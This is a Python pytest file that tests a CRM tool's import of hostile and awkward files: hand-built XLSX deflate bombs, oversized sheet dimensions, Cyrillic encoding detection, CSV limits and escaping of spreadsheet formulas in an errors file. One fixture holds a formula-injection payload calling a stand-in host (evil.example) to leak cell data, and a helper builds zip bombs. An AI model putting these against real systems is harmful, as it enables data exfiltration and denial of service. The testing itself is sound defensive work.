"""`crm import` against hostile and awkward files (#16 items 3 and 5, #17's fresh data dir):
XLSX bombs built here, encodings told apart or refused, .xls, csv limits, the errors file
escaped for spreadsheets, and the CLI answering each with one line and a non-zero exit."""

from __future__ import annotations

import codecs
import csv
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from crm.cli import main
from operational_app.importer import (
    SourceError,
    SourceOptions,
    parse_mapping,
    read_source,
    run_import,
)
from operational_app.importer import reading as reading_module

FIXTURES = Path(__file__).parent / "fixtures"
PARTNERS_MAPPING = {
    "entity": "partners",
    "fields": {
        "name": {"column": "Наименование", "required": True},
        "kind": {"column": "Вид", "map": {"Клиент": "customer", "Поставщик": "supplier"}},
    },
}
PARTNERS_TEXT = (
    "Наименование;Вид\r\n"
    "ООО «Ромашка»;Клиент\r\n"
    "ИП Сидоров Пётр Сергеевич;Поставщик\r\n"
    "АО Северная звезда;Клиент\r\n"
)


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fresh data directory: no OLTP database yet, as on a new machine."""
    path = tmp_path / "data"
    monkeypatch.setenv("CRM_DATA_DIR", str(path))
    monkeypatch.delenv("CRM_OLTP_URL", raising=False)
    return path


@pytest.fixture
def mapping_file(tmp_path: Path) -> Path:
    import yaml

    path = tmp_path / "partners.yml"
    path.write_text(yaml.safe_dump(PARTNERS_MAPPING, allow_unicode=True), encoding="utf-8")
    return path


def _names(table: reading_module.SourceTable) -> list[str]:
    return [row.values["Наименование"] for row in table.rows]


EXPECTED_NAMES = ["ООО «Ромашка»", "ИП Сидоров Пётр Сергеевич", "АО Северная звезда"]


# -- hostile XLSX ---------------------------------------------------------------------------------


def _small_workbook_parts() -> dict[str, bytes]:
    workbook = Workbook()
    workbook.active.append(["Наименование", "Вид"])
    workbook.active.append(["ООО Альфа", "Клиент"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _write_zip(path: Path, members: list[tuple[str, bytes, int, int]]) -> None:
    """A zip from (name, raw deflate data, crc32, declared uncompressed size): written by hand
    so a member can be a deflate bomb produced in milliseconds, or declare a size it lies about."""
    central = b""
    with path.open("wb") as out:
        for name, data, crc, size in members:
            encoded = name.encode()
            offset = out.tell()
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data),
                                  size, len(encoded), 0) + encoded)  # fmt: skip
            out.write(data)
            central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc,
                                   len(data), size, len(encoded), 0, 0, 0, 0, 0,
                                   offset) + encoded  # fmt: skip
        start = out.tell()
        out.write(central)
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                              len(central), start, 0))  # fmt: skip


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def _bomb_stream(head: bytes, filler_chunks: int, tail: bytes) -> Iterator[bytes]:
    """Raw deflate of head + filler_chunks x 16 MiB of spaces + tail. After a full flush the
    compressor forgets what came before, so each filler chunk compresses to the same bytes:
    compress one and repeat it."""
    chunk = b" " * (16 * 1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    yield compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    yield block * filler_chunks
    yield compressor.compress(tail) + compressor.flush(zlib.Z_FINISH)


def _bomb_xlsx(path: Path, filler_chunks: int, *, declared_size: int | None = None) -> Path:
    members = []
    for name, data in _small_workbook_parts().items():
        if name == "xl/worksheets/sheet1.xml":
            head, tail = data.split(b"</sheetData>")
            tail = b"</sheetData>" + tail
            raw = b"".join(_bomb_stream(head, filler_chunks, tail))
            size = len(head) + filler_chunks * 16 * 1024 * 1024 + len(tail)
            # The CRC is not computed (seconds for a GiB): a reader must refuse the archive
            # from its directory before inflating anything, long before a CRC check.
            members.append((name, raw, 0, size if declared_size is None else declared_size))
        else:
            members.append((name, _deflate(data), zlib.crc32(data), len(data)))
    _write_zip(path, members)
    return path


def test_deflate_bomb_is_refused_from_the_declared_sizes(tmp_path: Path) -> None:
    bomb = _bomb_xlsx(tmp_path / "bomb.xlsx", filler_chunks=96)  # 1.5 GiB of spaces
    assert bomb.stat().st_size < 2 * 1024 * 1024
    with zipfile.ZipFile(bomb) as archive:  # what the directory declares
        assert archive.getinfo("xl/worksheets/sheet1.xml").file_size > 1.5 * 1024**3

    with pytest.raises(SourceError, match=r"would unpack to 1,536 MB.*sheet1\.xml"):
        read_source(bomb)


def test_bomb_that_lies_about_its_size_is_cut_at_the_declared_size(tmp_path: Path) -> None:
    # Declares 4 KB, inflates to 64 MiB: zipfile stops at the declared size, so the sheet is
    # read as broken XML (or a CRC error), never as 64 MiB.
    bomb = _bomb_xlsx(tmp_path / "liar.xlsx", filler_chunks=4, declared_size=4096)
    with pytest.raises(SourceError, match="not a readable XLSX file"):
        read_source(bomb)


def _with_dimension(path: Path, dimension: str) -> Path:
    members = []
    for name, data in _small_workbook_parts().items():
        if name == "xl/worksheets/sheet1.xml":
            data, count = re.subn(
                rb'<dimension ref="[^"]+"', f'<dimension ref="{dimension}"'.encode(), data
            )
            assert count == 1
        members.append((name, _deflate(data), zlib.crc32(data), len(data)))
    _write_zip(path, members)
    return path


def test_sheet_declaring_the_whole_grid_is_refused_before_reading(tmp_path: Path) -> None:
    hostile = _with_dimension(tmp_path / "grid.xlsx", "A1:XFD1048576")
    assert hostile.stat().st_size < 10_000
    with pytest.raises(SourceError, match="declares 1,048,576 rows x 16,384 columns"):
        read_source(hostile)


def test_a_modest_dimension_reads_every_cell_there_is(tmp_path: Path) -> None:
    # A dimension smaller than the data (some generators write A1:A1) loses nothing.
    table = read_source(_with_dimension(tmp_path / "small.xlsx", "A1:A1"))
    assert table.columns == ["Наименование", "Вид"]
    assert [row.values for row in table.rows] == [{"Наименование": "ООО Альфа", "Вид": "Клиент"}]


def test_too_many_columns_in_a_sheet_are_refused(tmp_path: Path) -> None:
    workbook = Workbook()
    workbook.active.append([f"c{index}" for index in range(reading_module.MAX_COLUMNS + 1)])
    workbook.save(tmp_path / "wide.xlsx")
    with pytest.raises(SourceError, match="1,001 columns"):
        read_source(tmp_path / "wide.xlsx")


def test_not_a_zip_is_one_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "fake.xlsx"
    path.write_text("Наименование\nООО Альфа\n", encoding="utf-8")
    with pytest.raises(SourceError, match="not a readable XLSX file"):
        read_source(path)


# -- encodings ------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["cp866", "koi8_r", "cp1251", "utf-8"])
def test_cyrillic_encodings_are_told_apart(tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "partners.csv"
    path.write_bytes(PARTNERS_TEXT.replace("«", '"').replace("»", '"').encode(encoding))
    table = read_source(path)
    assert codecs.lookup(table.encoding or "").name == codecs.lookup(encoding).name
    assert _names(table) == [name.replace("«", '"').replace("»", '"') for name in EXPECTED_NAMES]


def test_excel_unicode_text_is_utf16_with_tabs(tmp_path: Path) -> None:
    # Excel's "Unicode text (*.txt)": UTF-16 LE with a BOM, tab-separated.
    path = tmp_path / "partners.txt"
    path.write_bytes(codecs.BOM_UTF16_LE + PARTNERS_TEXT.replace(";", "\t").encode("utf-16-le"))
    table = read_source(path)
    assert (table.delimiter, table.columns) == ("\t", ["Наименование", "Вид"])
    assert _names(table) == EXPECTED_NAMES


def test_utf8_with_one_bad_byte_is_refused_not_read_as_cp1251(tmp_path: Path) -> None:
    raw = PARTNERS_TEXT.encode("utf-8")
    damaged = raw.replace("Северная".encode(), "Север".encode() + b"\xff" + "ная".encode())
    path = tmp_path / "partners.csv"
    path.write_bytes(damaged)
    with pytest.raises(SourceError) as refused:
        read_source(path)
    message = str(refused.value)
    assert "UTF-8" in message and "0xFF" in message and "line 4" in message
    assert "`encoding:`" in message


def test_ambiguous_encoding_is_refused_and_the_option_settles_it(tmp_path: Path) -> None:
    # One byte above ASCII: № in windows-1251, ¹ in windows-1252, ╣ in cp866...
    path = tmp_path / "numbers.csv"
    path.write_bytes(b"name;number\nA;\xb9 5\n")
    with pytest.raises(SourceError, match=r"ambiguous.*`encoding:`"):
        read_source(path)
    table = read_source(path, SourceOptions(encoding="cp1251"))
    assert table.rows[0].values["number"] == "№ 5"


def test_unknown_codec_and_wrong_explicit_encoding_are_clear_errors(tmp_path: Path) -> None:
    path = tmp_path / "partners.csv"
    path.write_bytes(PARTNERS_TEXT.encode("cp1251"))
    with pytest.raises(SourceError, match="unknown encoding 'klingon'"):
        read_source(path, SourceOptions(encoding="klingon"))
    with pytest.raises(SourceError, match=r"not utf-8: byte 0x.. on line 1"):
        read_source(path, SourceOptions(encoding="utf-8"))


def test_utf16_without_bom_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "partners.txt"
    path.write_bytes(PARTNERS_TEXT.encode("utf-16-le"))
    with pytest.raises(SourceError, match="utf-16-le"):
        read_source(path)


def test_field_over_the_csv_limit_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "partners.csv"
    # An unclosed quote swallows the rest of the file into one field.
    path.write_text(
        'Наименование;Вид\n"ООО Альфа;Клиент\n' + "x" * (csv.field_size_limit() + 10),
        encoding="utf-8",
    )
    with pytest.raises(SourceError, match=r"line \d+: field larger than field limit"):
        read_source(path)


# -- .xls -----------------------------------------------------------------------------------------


def test_xls_from_1c_reads_with_sheet_rows_dates_and_numbers() -> None:
    import datetime as dt

    table = read_source(
        FIXTURES / "partners_1c.xls", SourceOptions(header_contains=("Наименование",))
    )
    assert table.columns == ["Наименование", "Вид", "Дата регистрации", "Оборот"]
    first, second, third = table.rows
    assert (first.line, first.values["Наименование"]) == (4, "ООО «Ромашка»")
    assert first.values["Дата регистрации"] == dt.date(2025, 12, 31)
    assert first.values["Оборот"] == "1234.56"
    assert second.values["Оборот"] == "100"
    assert third.line == 6


def test_xls_that_is_not_one_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "broken.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0 not really a workbook")
    with pytest.raises(SourceError, match="not a readable XLS file"):
        read_source(path)


# -- through the CLI: fresh data dir, one line per refusal, escaped errors file --------------------


def test_import_into_a_fresh_data_dir_creates_the_schema(
    data_dir: Path, mapping_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "partners.csv"
    source.write_bytes(PARTNERS_TEXT.encode("cp1251"))
    assert not data_dir.exists()
    assert main(["import", "partners", str(source), "--mapping", str(mapping_file)]) == 0
    assert "Traceback" not in capsys.readouterr().err
    import sqlite3

    connection = sqlite3.connect(data_dir / "oltp" / "crm.sqlite3")
    try:
        names = [row[0] for row in connection.execute("select name from partners order by id")]
    finally:
        connection.close()
    assert names == EXPECTED_NAMES


@pytest.mark.parametrize(
    ("content", "options", "expected"),
    [
        (PARTNERS_TEXT.encode("cp1251"), {"encoding": "klingon"}, "unknown encoding 'klingon'"),
        (
            b'\xd0\x98\xd0\xbc\xd1\x8f;x\n"' + b"y" * 200_000,
            {},
            "field larger than field limit",
        ),
        (b"name;number\nA;\xb9 5\n", {}, "ambiguous"),
    ],
    ids=["unknown-codec", "csv-field-limit", "ambiguous"],
)
def test_cli_refuses_bad_files_in_one_line(
    data_dir: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    content: bytes,
    options: dict[str, str],
    expected: str,
) -> None:
    import yaml

    mapping = dict(PARTNERS_MAPPING, source=options)
    mapping_path = tmp_path / "m.yml"
    mapping_path.write_text(yaml.safe_dump(mapping, allow_unicode=True), encoding="utf-8")
    source = tmp_path / "bad.csv"
    source.write_bytes(content)
    assert main(["import", "partners", str(source), "--mapping", str(mapping_path)]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    # One line says why (the progress bar's last state may stand beside it).
    (reason,) = [line for line in err.splitlines() if line.startswith("Cannot import")]
    assert expected in reason


def test_cli_refuses_an_xlsx_bomb_in_one_line(
    data_dir: Path, mapping_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    grid = _with_dimension(tmp_path / "grid.xlsx", "A1:XFD1048576")
    assert main(["import", "partners", str(grid), "--mapping", str(mapping_file)]) == 2
    err = capsys.readouterr().err
    assert "declares 1,048,576 rows" in err and "Traceback" not in err


def test_errors_file_escapes_formulas(data_dir: Path, tmp_path: Path) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    source = tmp_path / "partners.csv"
    source.write_text(
        f"Наименование;Вид\nООО Альфа;{hyperlink}\nООО Бета;@SUM(1+1)\nООО Гамма;-2+3\n",
        encoding="utf-8",
    )
    mapping = parse_mapping(PARTNERS_MAPPING)
    url = f"sqlite:///{tmp_path / 'crm.sqlite3'}"
    errors_path = tmp_path / "errors.csv"
    summary = run_import(url, "partners", source, mapping, errors_path=errors_path)
    assert summary.failed_rows == 3
    with errors_path.open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(summary.errors)
    assert {row["value"] for row in rows} == {"'" + hyperlink, "'@SUM(1+1)", "'-2+3"}
    texts = [row[name] for row in rows for name in ("column", "value", "message")]
    assert not [text for text in texts if text[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Copied into a workbook cell by cell (openpyxl stores text starting with "=" as a
    # formula, as a spreadsheet would read it), no cell is a formula.
    workbook_path = tmp_path / "errors.xlsx"
    workbook = Workbook()
    for row in csv.reader(errors_path.read_text(encoding="utf-8-sig").splitlines()):
        workbook.active.append(row)
    workbook.save(workbook_path)
    cells = load_workbook(workbook_path).active.iter_rows(values_only=True)
    assert not [value for row in cells for value in row if str(value).startswith("=")]


@pytest.mark.parametrize(
    ("mapping_bytes", "expected"),
    [
        (b"entity: partners\nfields: [name]\n", "fields must be a mapping"),
        (b"entity: partners\nfields:\n  name: [1, 2]\n", "field name must be"),
        (b"entity: partners\nsource: utf-8\n", "source must be a mapping"),
        ("entity: partners # Партнёры\n".encode("cp1251"), "must be UTF-8"),
    ],
    ids=["fields-list", "field-list", "source-scalar", "not-utf8"],
)
def test_cli_refuses_malformed_mappings_in_one_line(
    data_dir: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    mapping_bytes: bytes,
    expected: str,
) -> None:
    mapping_path = tmp_path / "m.yml"
    mapping_path.write_bytes(mapping_bytes)
    source = tmp_path / "partners.csv"
    source.write_bytes(PARTNERS_TEXT.encode("utf-8"))
    assert main(["import", "partners", str(source), "--mapping", str(mapping_path)]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    (reason,) = [line for line in err.splitlines() if line.startswith("Cannot import")]
    assert expected in reason


def test_rows_are_bounded_while_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The bound itself is Excel's sheet size; a small one shows the mechanism on small files,
    # for a CSV and for a sheet without a <dimension> to check beforehand.
    monkeypatch.setattr(reading_module, "MAX_ROWS", 3)
    csv_path = tmp_path / "partners.csv"
    csv_path.write_text("Наименование\n" + "".join(f"ООО {n}\n" for n in range(4)), "utf-8")
    with pytest.raises(SourceError, match="the file has more than 3 rows"):
        read_source(csv_path)

    workbook = Workbook()
    for n in range(4):
        workbook.active.append([f"ООО {n}"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    undeclared = tmp_path / "undeclared.xlsx"
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(undeclared, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                data, count = re.subn(rb"<dimension [^>]*/>", b"", data)
                assert count == 1
            target.writestr(name, data)
    with pytest.raises(SourceError, match="the sheet has more than 3 rows"):
        read_source(undeclared)
